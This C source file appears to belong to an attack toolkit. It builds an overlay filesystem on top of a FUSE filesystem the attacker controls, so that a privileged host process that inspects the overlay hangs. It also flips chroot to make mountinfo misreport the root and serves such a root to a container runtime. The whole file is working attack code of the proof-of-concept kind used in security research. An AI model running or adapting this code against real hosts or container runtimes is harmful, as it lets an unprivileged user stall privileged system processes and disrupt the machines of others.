/*
 * Roots that hang whoever looks below them: overlays over a FUSE of one's own. An overlay asks its layers as the one who
 * mounted it, so root of the host is not refused, as it would be by the FUSE itself.
 */

#define _GNU_SOURCE
#include "attack.h"
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <unistd.h>

/* The directory to work in, and the device. Options in front: --unshare. */
struct arguments {
  const char *directory;
  const char *device;
  char *const *files;
};

static struct arguments parse(char **argv) {
  argv++;
  if (*argv != NULL && strcmp(*argv, "--unshare") == 0) {
    become_root();
    argv++;
  }
  if (argv[0] == NULL || argv[1] == NULL) exit(2);
  return (struct arguments){argv[0], argv[1], argv + 2};
}

static char *below(const char *directory, const char *name) {
  char *path;
  check(asprintf(&path, "%s/%s", directory, name), "name a path");
  return path;
}

static void mount_overlay(const char *fuse, const char *lower, const char *where) {
  char options[8192];
  make_directory(where);
  snprintf(options, sizeof options, "lowerdir=%s:%s", fuse, lower);
  check(mount("overlay", where, "overlay", 0, options), "mount an overlay");
}

static int open_directory(const char *path) {
  int fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
  check(fd, path);
  return fd;
}

static void change_root(int directory) {
  check(fchdir(directory), "go to a root");
  check(chroot("."), "change the root");
}

/* Makes the overlay, with the kernel's files in it. Returns the FUSE's process. */
static int make_root(const struct arguments *given, char **merged) {
  char *fuse = below(given->directory, "fuse"), *lower = below(given->directory, "lower");
  *merged = below(given->directory, "merged");
  make_directory(lower);
  int daemon = mount_fuse(given->device, fuse);
  mount_overlay(fuse, lower, *merged);
  check(mount("/proc", below(*merged, "proc"), NULL, MS_BIND | MS_REC, NULL), "bind /proc");
  return daemon;
}

/* Its root is now its own and now the one that hangs: what mountinfo says is true no more when the root is opened. */
int flip(int argc, char **argv) {
  (void)argc;
  struct arguments given = parse(argv);
  char *merged;
  int daemon = make_root(&given, &merged);
  int own = open_directory("/"), other = open_directory(merged);
  read_meanwhile(given.files);
  /* The FUSE is asked once whether it checks access itself, and remembers that it does not. */
  change_root(other);
  change_root(own);
  mute(daemon);
  for (int is_first = 1;; is_first = 0) {
    change_root(other);
    change_root(own);
    if (is_first) be_ready(given.directory);
  }
}

/* Its root is the one that hangs from now on. */
int hang(int argc, char **argv) {
  (void)argc;
  struct arguments given = parse(argv);
  char *merged;
  int daemon = make_root(&given, &merged);
  int other = open_directory(merged), own = open_directory(given.directory);
  read_meanwhile(given.files);
  change_root(other);
  mute(daemon);
  /* No path that begins at the root is of use from now on. */
  check(fchdir(own), "go to the directory");
  be_ready(".");
  for (;;) pause();
}

/*
 * serve-root FUSE LOWER MERGED DEVICE PID_FILE: a root for a runtime, which goes on until the process in the file gets
 * SIGUSR1.
 */
int serve_root(int argc, char **argv) {
  if (argc != 6) return 2;
  char pid[32];
  int daemon = mount_fuse(argv[4], argv[1]);
  mount_overlay(argv[1], argv[2], argv[3]);
  snprintf(pid, sizeof pid, "%d", daemon);
  write_file(argv[5], pid);
  for (;;) pause();
}
